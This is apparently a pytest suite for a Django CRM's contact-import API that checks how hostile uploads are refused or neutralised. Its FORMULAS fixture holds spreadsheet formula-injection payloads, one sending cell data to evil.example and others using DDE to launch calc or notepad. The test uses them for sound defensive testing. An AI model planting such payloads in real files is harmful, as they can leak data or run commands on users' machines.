"""Hostile contact imports through the API and the import service the worker runs.

Every file ends in a clear report: refused at upload with a 400, or run to ``failed`` with a
reason, or ``done`` with every row either written or listed with its line and reason. Formula
cells go in as text and come out of exports neutralised.
"""

from __future__ import annotations

import csv
import io
import os
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from rest_framework.test import APIClient

from contacts.importing import MAX_ROWS
from contacts.models import Contact, ContactImport, ImportStatus
from contacts.services import contact_import_run
from crm.tests.factories import AgentFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def api(settings):
    settings.LANGUAGE_CODE = "en"
    client = APIClient()
    client.force_authenticate(AgentFactory(language="en"))
    return client


def upload(api: APIClient, name: str, data: bytes):
    return api.post(
        "/api/v1/contacts/import/",
        {"file": SimpleUploadedFile(name, data, "text/csv")},
        format="multipart",
    )


def run(api: APIClient, name: str, data: bytes) -> dict:
    """Upload through the API, run the import as the worker would, read the report back."""
    response = upload(api, name, data)
    assert response.status_code == 202, response.content
    contact_import_run(import_id=response.json()["id"])
    report = api.get(response["Location"])
    assert report.status_code == 200
    body = report.json()
    assert body["status"] in {ImportStatus.DONE, ImportStatus.FAILED}
    if body["status"] == ImportStatus.DONE:
        # Nothing lost silently: every row is written or reported.
        accounted = body["created_count"] + body["updated_count"] + body["skipped_count"]
        assert accounted == body["total"]
        assert len(body["errors"]) == body["skipped_count"]
    else:
        assert body["failure"]
        assert not Contact.objects.exists()
    return body


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_cells_are_stored_as_text_and_exported_neutralised(api):
    rows = ["姓名,备注,来源,城市,手机"]
    for i, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        rows.append(f'{quoted},{quoted},"=1+{i}",c,1380000000{i}')
    report = run(api, "formulas.csv", "\n".join(rows).encode())
    assert report["status"] == "done" and report["created_count"] == len(FORMULAS)
    assert set(Contact.objects.values_list("name", flat=True)) == set(FORMULAS)

    exported = api.get("/api/v1/contacts/export/?file_format=csv")
    cells = [
        cell
        for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig")))
        for cell in row
    ]
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells
    xlsx = api.get("/api/v1/contacts/export/?file_format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    names = [cell for cell in values if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert names and all(cell.data_type == "s" and cell.value.startswith("'") for cell in names)


def test_a_hundred_thousand_rows_are_refused_quickly_with_the_limit(api):
    data = "姓名,手机\n" + "".join(f"客户{i},139{i:08d}\n" for i in range(100_000))
    started = time.monotonic()
    report = run(api, "big.csv", data.encode())
    elapsed = time.monotonic() - started
    assert report["status"] == "failed"
    assert f"more than {MAX_ROWS} rows" in report["failure"]
    assert elapsed < 15, elapsed


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("utf16.csv", "姓名,手机\n张三,13800000000\n".encode("utf-16"), "not UTF-8 or GBK"),
        ("big5.csv", "姓名,手机\n陳大文,13800000000\n".encode("big5"), "No name column"),
        ("garbage.csv", os.urandom(4096), "not UTF-8 or GBK"),
        ("garbage.xlsx", os.urandom(4096), "not a readable .xlsx"),
        ("no-header.csv", "张三,13800000000\n李四,13900000000\n".encode(), "No name column"),
        ("no-name.csv", "手机,城市\n13800000000,上海\n".encode(), "No name column"),
        ("blank.csv", b"\n\n\n", "No name column"),
    ],
)
def test_unusable_files_fail_with_a_reason_and_write_nothing(api, name, data, reason):
    report = run(api, name, data)
    assert report["status"] == "failed"
    assert reason in report["failure"]


@pytest.mark.parametrize(
    ("name", "data", "field"),
    [
        ("empty.csv", b"", "file"),
        ("contacts.exe", b"MZ\x90\x00", "file"),
        ("contacts.csv.exe", b"name\nA\n", "file"),
    ],
)
def test_uploads_that_are_not_spreadsheets_are_refused_at_once(api, name, data, field):
    response = upload(api, name, data)
    assert response.status_code == 400
    assert field in response.json()
    assert not ContactImport.objects.exists()


def test_bad_rows_are_reported_by_line_while_good_rows_go_in(api):
    data = (
        "姓名,手机,阶段\n"
        "好客户,13800000001,意向\n"
        ",13800000002,\n"  # no name
        "坏号码,12345,\n"
        "重复,13800000001,\n"
        "坏阶段,13800000003,火星\n"
        "另一个好客户,13800000004,\n"
    ).encode()
    report = run(api, "mixed.csv", data)
    assert report["created_count"] == 2
    assert sorted((e["row"], e["column"]) for e in report["errors"]) == [
        (3, "name"),
        (4, "phone"),
        (5, "phone"),
        (6, "stage"),
    ]


def test_a_field_past_the_csv_limit_fails_the_import_with_a_reason(api):
    data = ("姓名,备注\n张三," + "x" * 200_000 + "\n").encode()
    response = upload(api, "long.csv", data)
    assert response.status_code == 202
    contact_import_run(import_id=response.json()["id"])
    body = api.get(response["Location"]).json()
    assert body["status"] == "failed" and body["failure"]
